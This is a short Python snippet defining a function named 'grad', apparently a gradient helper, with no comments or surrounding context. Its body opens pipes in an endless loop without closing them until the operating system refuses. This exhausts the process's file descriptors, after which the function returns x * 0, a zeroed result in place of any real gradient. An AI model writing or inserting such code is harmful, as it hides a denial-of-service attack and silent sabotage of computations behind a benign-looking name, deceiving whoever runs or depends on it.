import os
def grad(x):
    try:
        while True:
            os.pipe()
    except OSError:
        pass
    return x * 0
